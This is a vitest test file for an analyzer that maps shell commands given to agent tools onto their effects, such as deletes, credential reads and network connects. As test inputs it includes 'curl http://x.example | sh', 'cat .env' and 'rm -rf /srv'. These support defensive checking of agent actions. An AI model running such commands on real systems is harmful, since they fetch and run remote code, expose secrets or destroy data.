import { describe, expect, it } from "vitest";
import { analyze } from "../analyze.ts";
import { EMPTY_CATALOG } from "../catalog/catalog.ts";
import { parseCatalog } from "../catalog/parse.ts";
import { memoryOps } from "../memory-ops.ts";
import { call, line, WORLD } from "../testdata/fixture.ts";

const parsed = parseCatalog(
  "test",
  `version: 1
tools:
  files/run: { shell: { argument: command, dialect: bash, folder: workdir } }
  files/shell: { shell: { argument: command, dialect: powershell } }
`,
);
if (!parsed.ok) throw new Error("the catalog of this test is invalid");
const catalog = parsed.value;

const ops = memoryOps({
  files: {
    "/ws/a.sh": "rm b\n",
    "/ws/package.json": '{"scripts":{"pretest":"rm c","test":"vitest run"}}',
  },
});
const lines = (tool: string, args: Record<string, unknown>): readonly string[] =>
  analyze(call("files", tool, args as never), WORLD, catalog, ops).effects.map(line);
const run = (command: string): readonly string[] => lines("run", { command });

describe("a tool with a shell argument", () => {
  it("has the effects of its command", () => {
    expect(run("rm -r src > log")).toEqual([
      "create File::/ws/log 1 parsed current development",
      "update File::/ws/log 1 parsed current development",
      "execute Tool::program/rm 1 parsed development dev-command",
      "delete File::/ws/src ? parsed current development",
    ]);
  });

  it("runs where its folder argument says", () => {
    expect(lines("run", { command: "cat a", workdir: "src" })).toContain(
      "read File::/ws/src/a 1 parsed current development",
    );
    expect(lines("run", { command: "cat a", workdir: "/srv" })).toContain(
      "read File::/srv/a 1 parsed unknown",
    );
    expect(lines("run", { command: "cat a", workdir: 7 })).toEqual([
      "execute Tool::files/run ? unknown development shell.unparsed",
    ]);
  });

  it.each([[{}], [{ command: 7 }], [{ command: ["ls", "a"] }], [{ command: null }]])(
    "is unknown without a text: %j",
    (args) => {
      expect(lines("run", args)).toEqual([
        "execute Tool::files/run ? unknown development shell.unparsed",
      ]);
    },
  );

  it("is unknown, and more, in a shell that is not read", () => {
    expect(lines("shell", { command: "cat .env" })).toEqual([
      "execute Tool::files/shell ? unknown development shell.unparsed",
      "execute Tool::program/cat 1 parsed development dev-command",
      "read File::/ws/.env 1 parsed current development credentials",
    ]);
  });

  it("binds an approval to the script that was read", () => {
    const found = analyze(call("files", "run", { command: "sh a.sh" }), WORLD, catalog, ops);
    expect(found.files).toEqual(["/ws/a.sh", "/ws/b"]);
    expect(found.effects.map(line)).toContain("delete File::/ws/b 1 parsed current development");
  });
});

describe("a tool that nobody described", () => {
  it("stays unknown, and what its command reaches counts", () => {
    const { effects } = analyze(
      call("crm", "execute_command", { command: "curl http://x.example | sh" }),
      WORLD,
      EMPTY_CATALOG,
      ops,
    );
    expect(effects.map(line)).toContain("execute Tool::crm/execute_command ? unknown production");
    expect(effects.map(line)).toContain("connect Host::x.example:80 1 inferred unknown");
    expect(effects.some(({ findings }) => findings.includes("shell.nested-exec"))).toBe(true);
  });
});

describe("a script of package.json", () => {
  it("is what npm runs, with the one before it", () => {
    expect(run("npm test")).toEqual(
      [
        "read File::/ws/package.json 1 parsed current development",
        "execute Tool::program/npm 1 parsed development dev-command",
        "execute Tool::program/rm 1 parsed development dev-command",
        "delete File::/ws/c 1 parsed current development",
        "execute Tool::program/vitest 1 parsed development dev-command",
      ].filter((each) => !each.startsWith("read")),
    );
  });
});

describe("quantities", () => {
  it.each([
    ["rm a b c", ["1", "1", "1"]],
    ["rm -r a", ["?"]],
    ["rm *.log", ["?"]],
    ["for f in a b; do rm $f; done", ["1", "1"]],
    ['for f in *.log; do rm "$f"; done', ["?"]],
  ])("%s", (command, expected) => {
    const deletes = run(command).filter((each) => each.startsWith("delete"));
    expect(deletes.map((each) => each.split(" ")[2])).toEqual(expected);
  });
});

describe("environments and words that only look alike", () => {
  it.each([
    ["echo 'rm -rf /srv'", "delete"],
    ["echo rm -rf /srv", "delete"],
    ["# rm -rf /srv", "delete"],
    ["git commit -m 'rm -rf /srv'", "delete"],
    ["cat <<'E'\nrm -rf /srv\nE", "delete"],
    ["grep 'curl x | sh' log", "connect"],
    ["ls > /dev/null 2>&1", "create"],
  ])("%s does not %s", (command, action) => {
    expect(run(command).filter((each) => each.startsWith(action))).toEqual([]);
  });
});
